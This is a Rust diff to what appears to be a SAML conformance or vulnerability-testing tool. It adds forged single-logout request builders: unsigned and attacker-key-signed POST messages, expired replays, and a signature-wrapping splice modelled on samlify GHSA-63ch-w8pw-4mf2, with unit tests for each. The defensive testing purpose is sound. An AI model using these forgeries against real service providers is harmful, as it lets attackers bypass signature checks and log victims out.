@@ -2,8 +2,13 @@
 //! sent so that only an SP that authenticates it, and reads the query as the binding says,
 //! refuses it (the `slo/` checks and the Redirect-binding `bind/redirect/` ones).
 
-use crate::check::{LogoutDonors, LogoutForgery};
-use crate::forge::Skip;
+use saml_protocol::{ASSERTION_NS, DSIG_NS};
+use time::format_description::well_known::Rfc3339;
+use time::{Duration, OffsetDateTime};
+
+use crate::bytes::{after_name, attr_value, child, insert, try_splice, Doc};
+use crate::check::{LogoutDonors, LogoutForgery, SignedLogout};
+use crate::forge::{IdpKey, Skip};
 
 /// The raw `name=value` pairs of `query` whose name is one of `names`, in query order.
 fn pairs<'q>(query: &'q str, names: &[&str]) -> Vec<&'q str> {
@@ -14,11 +19,13 @@ fn pairs<'q>(query: &'q str, names: &[&str]) -> Vec<&'q str> {
 }
 
 /// The Redirect-binding query carrying `xml` (the IdP's LogoutRequest for the victim), forged
-/// as `forgery`, with the attacker's `donors` where it splices signed ones.
+/// as `forgery`, with the attacker's `donors` where it splices signed ones and the IdP's key
+/// where the IdP signs it.
 pub fn redirect_query(
     forgery: LogoutForgery,
     xml: &str,
     donors: LogoutDonors,
+    idp_key: Option<&IdpKey>,
 ) -> Result<String, Skip> {
     let unsigned = saml_protocol::redirect::unsigned_query("SAMLRequest", xml, None);
     let forged = unsigned.strip_prefix("SAMLRequest=").unwrap_or(&unsigned);
@@ -79,7 +86,113 @@ pub fn redirect_query(
             parts.extend(signed_response()?.into_iter().map(str::to_owned));
             Ok(join(parts))
         }
+        LogoutForgery::Expired => {
+            let expired =
+                saml_protocol::redirect::unsigned_query("SAMLRequest", &expired(xml)?, None);
+            saml_protocol::redirect::signed_query(
+                &expired,
+                donors.sig_alg,
+                &needs_idp(idp_key)?.key,
+            )
+            .map_err(Skip::Failed)
+        }
+        LogoutForgery::PostUnsigned
+        | LogoutForgery::PostUntrustedKey
+        | LogoutForgery::PostAssertionSignature
+        | LogoutForgery::PostExpired => Err(Skip::Failed(
+            "an HTTP-POST forgery has no Redirect query".into(),
+        )),
     }
+}
+
+/// The XML an HTTP-POST form carries to the single logout URL: `request` (the IdP's
+/// LogoutRequest for the victim) forged as `forgery`.
+pub fn post_xml(
+    forgery: LogoutForgery,
+    request: &SignedLogout,
+    donors: LogoutDonors,
+    idp_key: Option<&IdpKey>,
+) -> Result<String, Skip> {
+    match forgery {
+        LogoutForgery::PostUnsigned => Ok(request.xml.to_owned()),
+        LogoutForgery::PostUntrustedKey => {
+            let cert = crate::crypto::attacker_cert(None)?;
+            crate::crypto::resign(
+                request.signed,
+                crate::crypto::attacker_key()?,
+                Some(&crate::crypto::key_info_x509(&cert)?),
+            )
+        }
+        LogoutForgery::PostExpired => {
+            crate::crypto::idp_resign(&expired(request.signed)?, needs_idp(idp_key)?)
+        }
+        LogoutForgery::PostAssertionSignature => assertion_signature(request.xml, donors.assertion),
+        _ => Err(Skip::Failed(
+            "an HTTP-Redirect forgery has no POST form".into(),
+        )),
+    }
+}
+
+/// The IdP's key, which only checks the IdP signs for are given.
+fn needs_idp(idp_key: Option<&IdpKey>) -> Result<&IdpKey, Skip> {
+    idp_key.ok_or_else(|| {
+        Skip::NotApplicable("the IdP signs this message, and its key is not held here".into())
+    })
+}
+
+/// The LogoutRequest `xml` as issued ten minutes before its IssueInstant, its NotOnOrAfter
+/// five minutes before it: a message replayed after it expired (times relative to the
+/// message's own, so no clock is needed).
+fn expired(xml: &str) -> Result<String, Skip> {
+    let doc = Doc::parse_built(xml)?;
+    let root = doc.root();
+    let issued = root
+        .attribute("IssueInstant")
+        .and_then(|t| OffsetDateTime::parse(t, &Rfc3339).ok())
+        .ok_or_else(|| Skip::NotApplicable("the LogoutRequest has no IssueInstant".into()))?;
+    let issue_instant = attr_value(root, "IssueInstant")
+        .ok_or_else(|| Skip::NotApplicable("the LogoutRequest has no IssueInstant".into()))?;
+    let late = saml_protocol::saml_time(issued - Duration::minutes(5));
+    let mut edits = vec![(
+        issue_instant,
+        saml_protocol::saml_time(issued - Duration::minutes(10)),
+    )];
+    edits.push(match attr_value(root, "NotOnOrAfter") {
+        Some(range) => (range, late),
+        None => insert(
+            after_name(doc.src, root),
+            format!(" NotOnOrAfter=\"{late}\""),
+        ),
+    });
+    try_splice(xml, edits)
+}
+
+/// The shape of samlify GHSA-63ch-w8pw-4mf2: the unsigned LogoutRequest `xml` given, after its
+/// Issuer, the `ds:Signature` of the Assertion in `donor` (the attacker's own IdP-signed login
+/// response), then `samlp:Extensions` holding that Assertion without its Signature. The
+/// Reference still resolves and verifies; it names the Assertion, not the LogoutRequest.
+fn assertion_signature(xml: &str, donor: &str) -> Result<String, Skip> {
+    let donor = Doc::parse_built(donor)?;
+    let assertion = donor.assertion()?;
+    let signature = child(assertion, DSIG_NS, "Signature").ok_or_else(|| {
+        Skip::NotApplicable("the attacker's own response has no signed Assertion".into())
+    })?;
+    let doc = Doc::parse_built(xml)?;
+    let issuer = child(doc.root(), ASSERTION_NS, "Issuer")
+        .ok_or_else(|| Skip::Failed("the IdP's LogoutRequest has no Issuer".into()))?;
+    let prefix = doc
+        .root()
+        .tag_name()
+        .namespace()
+        .and_then(|ns| doc.root().lookup_prefix(ns))
+        .map(|p| format!("{p}:"))
+        .unwrap_or_default();
+    let moved = format!(
+        "{}<{prefix}Extensions>{}</{prefix}Extensions>",
+        donor.outer(signature),
+        donor.outer_without(assertion, Some(signature)),
+    );
+    try_splice(xml, vec![insert(issuer.range().end, moved)])
 }
 
 #[cfg(test)]
@@ -91,10 +204,11 @@ mod tests {
         request: "SAMLRequest=C&SigAlg=A&Signature=S",
         response: "SAMLResponse=R&SigAlg=A&Signature=T",
         sig_alg: "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
+        assertion: "",
     };
 
     fn query(forgery: LogoutForgery) -> String {
-        redirect_query(forgery, XML, DONORS).unwrap()
+        redirect_query(forgery, XML, DONORS, None).unwrap()
     }
 
     #[test]
@@ -113,6 +227,37 @@ mod tests {
         assert!(
             signed.contains("&SigAlg=http%3a%2f%2fwww.w3.org") && signed.contains("&Signature=")
         );
+    }
+
+    #[test]
+    fn the_expired_request_is_issued_ten_minutes_early_and_expired_five() {
+        let xml = "<samlp:LogoutRequest xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" ID=\"_r\" IssueInstant=\"2026-12-02T12:00:00Z\"/>";
+        let out = expired(xml).unwrap();
+        assert!(out.contains("IssueInstant=\"2026-12-02T11:50:00"), "{out}");
+        assert!(out.contains("NotOnOrAfter=\"2026-12-02T11:55:00"), "{out}");
+        let again = expired(&out).unwrap();
+        assert_eq!(again.matches("NotOnOrAfter").count(), 1, "{again}");
+    }
+
+    #[test]
+    fn the_assertion_signature_moves_up_and_its_assertion_goes_into_extensions() {
+        let request = "<samlp:LogoutRequest xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" ID=\"_r\"><Issuer xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\">idp</Issuer><NameID xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\">victim</NameID></samlp:LogoutRequest>";
+        let donor = "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"><Assertion xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\" ID=\"_a\"><Issuer>idp</Issuer><Signature xmlns=\"http://www.w3.org/2000/09/xmldsig#\"><SignedInfo><Reference URI=\"#_a\"/></SignedInfo></Signature><Subject><NameID>attacker</NameID></Subject></Assertion></samlp:Response>";
+        let out = assertion_signature(request, donor).unwrap();
+        assert_eq!(
+            out,
+            "<samlp:LogoutRequest xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" ID=\"_r\"><Issuer xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\">idp</Issuer>\
+             <Signature xmlns=\"http://www.w3.org/2000/09/xmldsig#\"><SignedInfo><Reference URI=\"#_a\"/></SignedInfo></Signature>\
+             <samlp:Extensions><Assertion xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\" ID=\"_a\"><Issuer>idp</Issuer><Subject><NameID>attacker</NameID></Subject></Assertion></samlp:Extensions>\
+             <NameID xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\">victim</NameID></samlp:LogoutRequest>"
+        );
+        let unsigned = donor
+            .replace("<Signature", "<X")
+            .replace("</Signature>", "</X>");
+        assert!(matches!(
+            assertion_signature(request, &unsigned),
+            Err(Skip::NotApplicable(_))
+        ));
     }
 
     #[test]
